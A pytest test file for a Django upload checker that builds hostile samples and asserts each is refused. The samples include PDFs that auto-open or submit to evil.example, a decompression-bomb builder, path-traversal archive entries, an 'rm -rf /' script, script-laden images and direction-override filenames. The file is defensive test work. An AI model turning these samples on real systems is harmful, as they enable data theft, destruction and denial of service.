"""Uploads checked to the bottom, not by their first bytes (issue 11 §4–7): PDF objects of every kind and
revision, images decoded, OFD containers validated, filenames as sent, the virus scan — each through the checks
and through the page and the API, where a refused file leaves the draft and its other materials as they were."""

import html
import io
import os
import socket
import socketserver
import struct
import tempfile
import threading
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from applications.material_samples import jpeg_bytes, ofd_bytes, pdf_bytes, png_bytes
from applications.materials import detection, images, scan
from applications.materials.checks import clean_filename, inspect_upload
from applications.materials.detection import PdfEncrypted, pdf_active_content
from applications.materials.images import MAX_IMAGE_PIXELS, image_problem
from applications.materials.ofd import ofd_problem
from applications.materials.services import attach_material
from applications.models import Application, Material
from core.errors import DomainError
from tests.applications import test_materials as base
from tests.applications.hostile_files import in_object_streams

private_media = base.private_media
call = base.call
application = base.application
item_of = base.item_of

# ---------------------------------------------------------------------------------------------------------
# Hostile PDFs, written with pypdf


def _writer():
    return PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes("hostile"))))


def _bytes(writer):
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _name(value):
    return NameObject(value)


def _action(kind, **entries):
    action = DictionaryObject({_name("/S"): _name(kind)})
    for key, value in entries.items():
        action[_name(f"/{key}")] = value
    return action


def _uri(address="http://evil.example/"):
    return _action("/URI", URI=TextStringObject(address))


def pdf_open_action_uri():
    writer = _writer()
    writer._root_object[_name("/OpenAction")] = writer._add_object(_uri())
    return _bytes(writer)


def pdf_page_aa_uri():
    writer = _writer()
    writer.pages[0][_name("/AA")] = DictionaryObject({_name("/O"): _uri()})
    return _bytes(writer)


def pdf_open_action_chained_uri():
    # A harmless first action whose /Next opens the address: still without a click.
    writer = _writer()
    first = _action("/GoTo", D=ArrayObject([NumberObject(0), _name("/Fit")]), Next=writer._add_object(_uri()))
    writer._root_object[_name("/OpenAction")] = first
    return _bytes(writer)


def pdf_xfa():
    writer = _writer()
    writer._root_object[_name("/AcroForm")] = DictionaryObject(
        {_name("/Fields"): ArrayObject(), _name("/XFA"): writer._add_object(StreamObject())}
    )
    return _bytes(writer)


def _link_with(action):
    def build():
        writer = _writer()
        annotation = DictionaryObject(
            {
                _name("/Type"): _name("/Annot"),
                _name("/Subtype"): _name("/Link"),
                _name("/Rect"): ArrayObject([NumberObject(n) for n in (10, 10, 100, 100)]),
                _name("/A"): action(),
            }
        )
        writer.add_annotation(0, annotation)
        return _bytes(writer)

    return build


pdf_submit_form = _link_with(lambda: _action("/SubmitForm", F=TextStringObject("http://evil.example/collect")))
pdf_import_data = _link_with(lambda: _action("/ImportData", F=TextStringObject("data.fdf")))
pdf_goto_remote = _link_with(lambda: _action("/GoToR", F=TextStringObject("other.pdf"), D=ArrayObject()))


def pdf_embedded_files():
    writer = _writer()
    writer.add_attachment("payload.exe", b"MZ\x90\x00 not really")
    return _bytes(writer)


def _annotation(subtype):
    def build():
        writer = _writer()
        annotation = DictionaryObject(
            {
                _name("/Type"): _name("/Annot"),
                _name("/Subtype"): _name(subtype),
                _name("/Rect"): ArrayObject([NumberObject(n) for n in (10, 10, 100, 100)]),
            }
        )
        writer.add_annotation(0, annotation)
        return _bytes(writer)

    return build


pdf_file_attachment = _annotation("/FileAttachment")
pdf_rich_media = _annotation("/RichMedia")


def pdf_incremental_javascript():
    """A clean PDF, then an incremental update (a second revision appended) that adds document JavaScript."""
    writer = PdfWriter(io.BytesIO(pdf_bytes("clean first revision")), incremental=True)
    writer.add_open_action(JavaScript("app.alert(1)"))
    return _bytes(writer)


def pdf_encrypted(user_password):
    writer = _writer()
    writer.encrypt(user_password=user_password, owner_password="owner-secret", algorithm="RC4-128")
    return _bytes(writer)


def pdf_with_link():
    writer = _writer()
    writer.add_annotation(0, Link(rect=(10, 10, 100, 100), url="https://www.yangzhou.gov.cn/"))
    return _bytes(writer)


HOSTILE_PDFS = {
    "uri_on_open": [pdf_open_action_uri, pdf_page_aa_uri, pdf_open_action_chained_uri],
    "xfa": [pdf_xfa],
    "submit_form": [pdf_submit_form],
    "import_data": [pdf_import_data],
    "remote_goto": [pdf_goto_remote],
    "embedded_file": [pdf_embedded_files, pdf_file_attachment],
    "rich_media": [pdf_rich_media],
    "javascript": [pdf_incremental_javascript],
}
HOSTILE_PDF_CASES = [(finding, build) for finding, builders in HOSTILE_PDFS.items() for build in builders]


def _stream_free(data):
    return detection.without_stream_bodies(data)


@pytest.mark.parametrize(("finding", "build"), HOSTILE_PDF_CASES, ids=[b.__name__ for _f, b in HOSTILE_PDF_CASES])
def test_hostile_pdf_is_found_by_the_parser(finding, build):
    data = build()
    assert pdf_active_content(io.BytesIO(data)) == finding
    reader = detection._open_pdf(io.BytesIO(data))
    assert detection._parsed_finding(reader, data) == finding  # the object walk alone finds it too


@pytest.mark.parametrize("build", [pdf_xfa, pdf_file_attachment, pdf_rich_media, pdf_open_action_uri, pdf_submit_form])
def test_hostile_pdf_inside_an_object_stream_is_found_by_both_looks(build):
    data = in_object_streams(build())
    expected = pdf_active_content(io.BytesIO(build()))
    assert detection._raw_finding(_stream_free(data)) is None  # no name of it is left in the bytes
    if expected != "uri_on_open":  # an indirect /OpenAction is for the parser alone
        assert detection._object_stream_finding(data) == expected  # the inflated object stream
    assert detection._parsed_finding(detection._open_pdf(io.BytesIO(data)), data) == expected
    assert pdf_active_content(io.BytesIO(data)) == expected


def test_object_stream_rewrite_keeps_a_clean_pdf_clean():
    data = in_object_streams(pdf_bytes("clean"))
    assert b"/ObjStm" in data and pdf_active_content(io.BytesIO(data)) is None


def test_javascript_of_an_earlier_revision_is_found_after_an_update_removed_it():
    hostile = in_object_streams(pdf_bytes("js", extra_catalog="/OpenAction << /S /JavaScript /JS (x) >> "))
    writer = PdfWriter(io.BytesIO(hostile), incremental=True)
    del writer._root_object["/OpenAction"]
    data = _bytes(writer)
    latest = PdfReader(io.BytesIO(data))
    assert "/OpenAction" not in latest.trailer["/Root"]  # the file as shown today has none
    assert detection._parsed_finding(detection._open_pdf(io.BytesIO(data)), data) == "javascript"


def test_a_pdf_with_too_many_revisions_is_refused_rather_than_parsed_that_often():
    data = pdf_bytes("many") + b"startxref\n9\n%%EOF\n" * (detection.MAX_PDF_REVISIONS + 1)
    with pytest.raises(detection.PdfUnreadable):
        pdf_active_content(io.BytesIO(data))


def test_ordinary_links_and_forms_pass():
    assert pdf_active_content(io.BytesIO(pdf_with_link())) is None
    assert pdf_active_content(io.BytesIO(pdf_bytes("C:/JS/报告 /EmbeddedFiles notes /XFA plan"))) is None


@pytest.mark.parametrize(("password", "open_password"), [("", False), ("secret", True)])
def test_encrypted_pdfs_are_refused_either_way(password, open_password):
    with pytest.raises(PdfEncrypted) as exc:
        pdf_active_content(io.BytesIO(pdf_encrypted(password)))
    assert exc.value.open_password is open_password


def test_a_20_mb_pdf_is_checked_in_one_read():
    # Speed is measured by bench/bench_uploads.py (docs/performance.md); here only that a big one passes.
    page = pdf_bytes("big")
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(page)))
    stream = StreamObject()
    stream.set_data(os.urandom(2 * 1024 * 1024))
    writer._add_object(stream)
    assert pdf_active_content(io.BytesIO(_bytes(writer))) is None


# ---------------------------------------------------------------------------------------------------------
# Images

HTML = b"<html><script>alert(document.cookie)</script></html>"


def _png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_declaring(width, height):
    """A small PNG whose header declares a huge canvas (a decompression bomb)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + _png_chunk(b"IEND", b"")
    )


@pytest.mark.parametrize(
    ("kind", "content", "code"),
    [
        ("png", png_bytes() + HTML, "trailing_markup"),
        ("jpeg", jpeg_bytes() + HTML, "trailing_markup"),
        ("png", b"\x89PNG\r\n\x1a\n" + HTML, "broken"),  # a signature followed by a web page
        ("jpeg", b"\xff\xd8\xff\xe0" + HTML, "broken"),
        ("png", png_bytes((200, 200))[:-40], "broken"),  # cut off
        ("jpeg", jpeg_bytes((200, 200))[:300], "broken"),
        ("png", png_declaring(9000, 9000), "too_many_pixels"),  # 81 Mpx: over the limit
        ("png", png_declaring(30000, 30000), "too_many_pixels"),  # 900 Mpx: Pillow refuses it while opening
    ],
)
def test_images_are_decoded_to_the_end(kind, content, code):
    problem = image_problem(io.BytesIO(content), kind)
    assert problem is not None and problem.code == code


def test_good_images_pass_also_with_harmless_trailing_data():
    assert image_problem(io.BytesIO(png_bytes()), "png") is None
    assert image_problem(io.BytesIO(jpeg_bytes()), "jpeg") is None
    out = io.BytesIO()
    Image.new("RGB", (300, 200), (1, 2, 3)).save(out, "JPEG", progressive=True)
    # Phones append a second picture or a video after the EOI: not markup, so it passes.
    assert image_problem(io.BytesIO(out.getvalue() + b"\x00\x00ftypmp42" + os.urandom(512)), "jpeg") is None


def test_the_pixel_limit_is_set_on_pillow_itself():
    assert Image.MAX_IMAGE_PIXELS == MAX_IMAGE_PIXELS == images.MAX_IMAGE_PIXELS == 60_000_000


# ---------------------------------------------------------------------------------------------------------
# OFD


def ofd_with(extra=(), *, ofd_xml=None, doc_root="Doc_0/Document.xml", compression=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        archive.writestr(
            "OFD.xml",
            ofd_xml
            or '<?xml version="1.0" encoding="UTF-8"?><ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016" Version="1.0">'
            f"<ofd:DocBody><ofd:DocRoot>{doc_root}</ofd:DocRoot></ofd:DocBody></ofd:OFD>",
        )
        archive.writestr("Doc_0/Document.xml", "<ofd:Document/>")
        for name, data in extra:
            archive.writestr(name, data)
    return out.getvalue()


def _deflated_zeros(mebibytes):
    """Raw deflate data of ``mebibytes`` MiB of zeros, ~1 KB per MiB, without compressing them all."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(bytes(1 << 20)) + compressor.flush(zlib.Z_FULL_FLUSH)
    return block * mebibytes + compressor.flush()


def ofd_bomb(mebibytes=1024):
    """An OFD of ~1 MB whose one resource unpacks to 1 GiB (CRC left 0: it is refused before it is read)."""
    start = io.BytesIO(ofd_bytes())
    with zipfile.ZipFile(start) as archive:
        entries = [(info, archive.read(info)) for info in archive.infolist()]
    out, central = io.BytesIO(), b""
    for info, data in entries:
        offset = out.tell()
        out.write(
            struct.pack(
                "<IHHHHHIIIHH",
                0x04034B50,
                20,
                0,
                0,
                0,
                0,
                zlib.crc32(data),
                len(data),
                len(data),
                len(info.filename),
                0,
            )
        )
        out.write(info.filename.encode() + data)
        central += (
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                0,
                0,
                0,
                zlib.crc32(data),
                len(data),
                len(data),
                len(info.filename),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + info.filename.encode()
        )
    name, body = b"Doc_0/Res/image.bmp", _deflated_zeros(mebibytes)
    offset = out.tell()
    out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, 0, len(body), mebibytes << 20, len(name), 0))
    out.write(name + body)
    central += (
        struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            0,
            8,
            0,
            0,
            0,
            len(body),
            mebibytes << 20,
            len(name),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        + name
    )
    directory = out.tell()
    out.write(central)
    count = len(entries) + 1
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), directory, 0))
    return out.getvalue()


LIMIT = 20 * 1024 * 1024


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (ofd_with([("../../etc/cron.d/x", "x")]), "unsafe_name"),
        (ofd_with([("Doc_0/..\\..\\evil.xml", "x")]), "unsafe_name"),
        (ofd_with([("/etc/passwd", "x")]), "unsafe_name"),
        (ofd_with([("C:/Windows/evil.xml", "x")]), "unsafe_name"),
        (ofd_with([("Doc_0/Res/setup.exe", "x")]), "executable"),
        (ofd_with([("Doc_0/Res/run.js", "x")]), "executable"),
        (ofd_with([("Doc_0/Res/page.html", "x")]), "executable"),
        (ofd_with([("Doc_0/Res/font.dat", b"MZ\x90\x00" + b"\x00" * 100)]), "executable"),  # by content
        (ofd_with([("Doc_0/Res/a.dat", b"#!/bin/sh\nrm -rf /\n")]), "executable"),
        (ofd_bomb(), "too_large"),  # 1 MB that unpacks to 1 GiB
        (ofd_with([("Doc_0/Res/big.xml", bytes(5 * 1024 * 1024))]), "ratio"),  # within the limit, ~1000 : 1
        (ofd_with(doc_root="Doc_9/Document.xml"), "structure"),  # DocRoot names nothing
        (ofd_with(ofd_xml="<html/>"), "structure"),
        (ofd_with(ofd_xml='<!DOCTYPE x [<!ENTITY a "aaaa">]><ofd:OFD xmlns:ofd="o">&a;</ofd:OFD>'), "structure"),
        (ofd_bytes()[:-30], "broken"),
    ],
)
def test_ofd_is_validated_as_a_container(content, code):
    problem = ofd_problem(io.BytesIO(content), LIMIT)
    assert problem is not None and problem.code == code


def test_real_ofd_files_pass():
    assert ofd_problem(io.BytesIO(ofd_bytes()), LIMIT) is None
    fonts_and_images = [("Doc_0/Res/font.ttf", os.urandom(4096)), ("Doc_0/Res/seal.png", png_bytes())]
    assert ofd_problem(io.BytesIO(ofd_with(fonts_and_images, doc_root="/Doc_0/Document.xml")), LIMIT) is None


def test_ofd_over_the_limit_when_unpacked_names_the_size():
    content = ofd_with([("Doc_0/Res/scan.bmp", os.urandom(600 * 1024))])
    problem = ofd_problem(io.BytesIO(content), 512 * 1024)
    assert problem.code == "too_large" and problem.params["size"] > 600 * 1024


# ---------------------------------------------------------------------------------------------------------
# Filenames


@pytest.mark.parametrize(
    ("name", "fragment"),
    [
        ("invoice\u202efdp.exe", "改变文字方向的控制字符（U+202E）"),
        ("报告\u2066.pdf", "改变文字方向的控制字符（U+2066）"),
        ("营业\u200b执照.pdf", "零宽或不可见字符（U+200B）"),
        ("\ufeff营业执照.pdf", "零宽或不可见字符（U+FEFF）"),
        ("bad\x07name.pdf", "控制字符（U+0007）"),
    ],
)
def test_filename_refusals_say_which_character(name, fragment):
    with pytest.raises(DomainError) as exc:
        clean_filename(name)
    assert fragment in exc.value.message


# ---------------------------------------------------------------------------------------------------------
# The virus scan: a fake clamd on a unix socket


class _FakeClamd(socketserver.BaseRequestHandler):
    def handle(self):
        command = b""
        while not command.endswith(b"\0"):
            command += self.request.recv(1)
        received = b""
        stream = self.request.makefile("rb")
        while True:
            (length,) = struct.unpack(">I", stream.read(4))
            if length == 0:
                break
            received += stream.read(length)
        self.server.commands.append(command)
        self.server.received.append(received)
        verdict = b"Eicar-Test-Signature FOUND" if scan.EICAR in received else b"OK"
        self.request.sendall(b"stream: " + verdict + b"\0")


@pytest.fixture
def clamd(settings):
    directory = tempfile.mkdtemp(prefix="clamd-", dir="/tmp")  # a unix socket path must stay short
    path = os.path.join(directory, "clamd.sock")
    server = socketserver.UnixStreamServer(path, _FakeClamd)
    server.commands, server.received = [], []
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    settings.CLAMD_SOCKET = path
    settings.VIRUS_SCAN_BACKEND = ""
    yield server
    server.shutdown()
    server.server_close()
    os.unlink(path)
    os.rmdir(directory)


def infected_pdf():
    return pdf_bytes("invoice") + b"%" + scan.EICAR + b"\n"


def test_clamd_client_speaks_instream(clamd):
    assert isinstance(scan.backend(), scan.ClamdBackend)
    assert scan.scan(io.BytesIO(infected_pdf())) == "Eicar-Test-Signature"
    assert scan.scan(io.BytesIO(pdf_bytes())) is None
    assert clamd.commands == [b"zINSTREAM\0", b"zINSTREAM\0"]
    assert clamd.received == [infected_pdf(), pdf_bytes()]


def test_scan_backend_is_chosen_by_setting(settings):
    settings.CLAMD_SOCKET = ""
    settings.VIRUS_SCAN_BACKEND = ""
    assert isinstance(scan.backend(), scan.NoScanBackend)
    settings.VIRUS_SCAN_BACKEND = "applications.materials.scan.EicarTestBackend"
    assert scan.scan(io.BytesIO(infected_pdf())) == "Eicar-Test-Signature"
    assert scan.scan(io.BytesIO(b"x" * 200_000 + scan.EICAR[:30])) is None


def test_missing_socket_and_timeout_are_scan_errors(settings, tmp_path):
    settings.CLAMD_SOCKET = str(tmp_path / "missing.sock")
    with pytest.raises(scan.ScanUnavailable):
        scan.scan(io.BytesIO(pdf_bytes()))
    listener = socket.socket(socket.AF_UNIX)
    path = tempfile.mktemp(prefix="clamd-", dir="/tmp")  # noqa: S306 - bound at once below
    listener.bind(path)
    listener.listen(1)
    try:
        with pytest.raises(scan.ScanUnavailable):  # accepted, never answered
            scan.ClamdBackend(path, timeout=0.05).scan(io.BytesIO(pdf_bytes()))
    finally:
        listener.close()
        os.unlink(path)


def test_scan_answers_are_read():
    assert scan._parse_reply("stream: OK") is None
    assert scan._parse_reply("stream: Win.Trojan.Agent-1 FOUND") == "Win.Trojan.Agent-1"
    with pytest.raises(scan.ScanUnavailable):
        scan._parse_reply("INSTREAM size limit exceeded. ERROR")


# ---------------------------------------------------------------------------------------------------------
# Through HTTP: the page and the API, the draft untouched


@pytest.fixture
def draft(cast, application, settings):
    """An application with form data and one file already on another item."""
    settings.VIRUS_SCAN_BACKEND = "applications.materials.scan.EicarTestBackend"
    Application.objects.filter(pk=application.pk).update(data={"project_name": "智能工厂"})
    application.refresh_from_db()
    attach_material(
        application=application,
        item=item_of(application, "audit_report"),
        uploaded_file=SimpleUploadedFile("完税证明.pdf", pdf_bytes("完税")),
        actor=cast.enterprise_a,
    )
    return application


def _state(application):
    row = Application.objects.values("data", "version", "status", "updated_at").get(pk=application.pk)
    files = list(Material.all_versions.filter(application=application).values_list("pk", "sha256", "original_name"))
    return row, files


def _page_upload(client, application, name, content, item):
    url = reverse("applications:material_upload", args=[application.pk])
    data = {"item": item, "file": SimpleUploadedFile(name, content)}
    return client.post(url, data, HTTP_X_REQUESTED_WITH="XMLHttpRequest")


def _api_upload(client, application, name, content, item, headers):
    data = {"item": item, "file": SimpleUploadedFile(name, content)}
    return client.post(f"/api/v1/applications/{application.pk}/materials", data, **headers)


REFUSALS = [
    ("licence.pdf", pdf_xfa, "business_licence", "XFA 动态表单"),
    ("licence.pdf", lambda: in_object_streams(pdf_embedded_files()), "business_licence", "嵌入的文件"),
    ("licence.pdf", pdf_open_action_uri, "business_licence", "自动访问网址"),
    ("licence.pdf", pdf_incremental_javascript, "business_licence", "JavaScript"),
    ("licence.pdf", lambda: pdf_encrypted(""), "business_licence", "权限密码"),
    ("photo.png", lambda: png_bytes() + HTML, "results_evidence", "网页或脚本代码"),
    ("photo.jpg", lambda: b"\xff\xd8\xff\xe0" + HTML, "results_evidence", "已损坏或不完整"),
    ("huge.png", lambda: png_declaring(9000, 9000), "results_evidence", "9000×9000 像素），不得超过 60 百万像素"),
    ("invoice.ofd", ofd_bomb, "results_evidence", "超过"),
    ("invoice.ofd", lambda: ofd_with([("../x.xml", "x")]), "results_evidence", "不安全的路径"),
    ("invoice.ofd", lambda: ofd_with([("Doc_0/Res/a.exe", "x")]), "results_evidence", "可执行程序"),
    ("invoice\u202efdp.pdf", pdf_bytes, "business_licence", "改变文字方向的控制字符（U+202E）"),
    ("营业\u200b执照.pdf", pdf_bytes, "business_licence", "零宽或不可见字符（U+200B）"),
    ("report&#8238;fdp.pdf", pdf_bytes, "business_licence", "U+202E"),  # read as Django reads it
    ("\u202e", pdf_bytes, "business_licence", "U+202E"),  # Django would empty it: "no file chosen"
    ("licence.pdf", infected_pdf, "business_licence", "未通过病毒检查（发现“Eicar-Test-Signature”）"),
]
REFUSAL_IDS = [f"{i}-{fragment[:8]}" for i, (_n, _c, _i, fragment) in enumerate(REFUSALS)]


@pytest.mark.parametrize(("name", "build", "item", "fragment"), REFUSALS, ids=REFUSAL_IDS)
def test_page_upload_refuses_and_leaves_the_draft(client, cast, draft, name, build, item, fragment):
    before = _state(draft)
    client.force_login(cast.enterprise_a)
    response = _page_upload(client, draft, name, build(), item)
    assert response.status_code == 422, response.content[:300]
    assert fragment in html.unescape(response.content.decode())
    assert _state(draft) == before


@pytest.mark.parametrize(("name", "build", "item", "fragment"), REFUSALS, ids=REFUSAL_IDS)
def test_api_upload_refuses_and_leaves_the_draft(client, cast, draft, api_token, name, build, item, fragment):
    before = _state(draft)
    response = _api_upload(client, draft, name, build(), item, api_token(cast.enterprise_a))
    assert response.status_code == 422
    error = response.json()["errors"][0]
    assert error["field"] == "file" and fragment in error["message"]
    assert _state(draft) == before


def test_scan_error_refuses_with_try_again_and_keeps_the_draft(client, cast, draft, api_token, settings, tmp_path):
    settings.VIRUS_SCAN_BACKEND = ""
    settings.CLAMD_SOCKET = str(tmp_path / "no-clamd.sock")
    before = _state(draft)
    response = _api_upload(client, draft, "licence.pdf", pdf_bytes(), "business_licence", api_token(cast.enterprise_a))
    assert response.status_code == 422
    assert response.json()["errors"][0]["message"] == "暂时无法检查病毒，请稍后重试。"
    client.force_login(cast.enterprise_a)
    response = _page_upload(client, draft, "licence.pdf", pdf_bytes(), "business_licence")
    assert response.status_code == 422 and "暂时无法检查病毒，请稍后重试。" in html.unescape(response.content.decode())
    assert _state(draft) == before


def test_clean_files_pass_the_scan_through_clamd(client, cast, draft, api_token, clamd):
    response = _api_upload(client, draft, "licence.pdf", pdf_bytes(), "business_licence", api_token(cast.enterprise_a))
    assert response.status_code == 201
    response = _api_upload(
        client, draft, "licence.pdf", infected_pdf(), "business_licence", api_token(cast.enterprise_a)
    )
    assert response.status_code == 422 and "Eicar-Test-Signature" in response.json()["errors"][0]["message"]
    assert len(clamd.received) == 2


def test_names_as_sent_are_kept_when_they_are_fine(client, cast, draft, api_token):
    # U+3000 (the ideographic space) is visible: kept, where Django's cleaning would have dropped it.
    name = "营业执照\u3000副本.pdf"
    response = _api_upload(client, draft, name, pdf_bytes(), "business_licence", api_token(cast.enterprise_a))
    assert response.status_code == 201 and response.json()["filename"] == name
    response = _api_upload(
        client, draft, "C:\\Users\\李\\照片.png", png_bytes(), "results_evidence", api_token(cast.enterprise_a)
    )
    assert response.status_code == 201 and response.json()["filename"] == "照片.png"


def test_good_images_and_ofd_are_accepted(client, cast, draft, api_token):
    headers = api_token(cast.enterprise_a)
    for name, content in (("a.png", png_bytes()), ("b.jpg", jpeg_bytes()), ("c.ofd", ofd_bytes())):
        response = _api_upload(client, draft, name, content, "results_evidence", headers)
        assert response.status_code == 201, response.content


def test_service_refuses_the_same_without_http(cast, draft):
    item = item_of(draft, "business_licence")
    with pytest.raises(DomainError) as exc:
        inspect_upload(SimpleUploadedFile("x.pdf", pdf_rich_media()), item)
    assert "富媒体内容（RichMedia）" in exc.value.message


def test_evidence_filename_is_checked_as_sent(client, cast):
    from publicity.models import Objection
    from tests.publicity.helpers import published

    publicity, apps = published(cast)
    data = {
        "application": apps[0].pk,
        "name": "张三",
        "mobile": "13812345678",
        "grounds": "该企业投入数据不实。",
        "files": [SimpleUploadedFile("证据\u202efdp.pdf", pdf_bytes())],
    }
    response = client.post(f"/api/v1/publicity/{publicity.pk}/objections", data=data)
    assert response.status_code == 422
    assert "U+202E" in response.json()["errors"][0]["message"]
    assert not Objection.objects.exists()
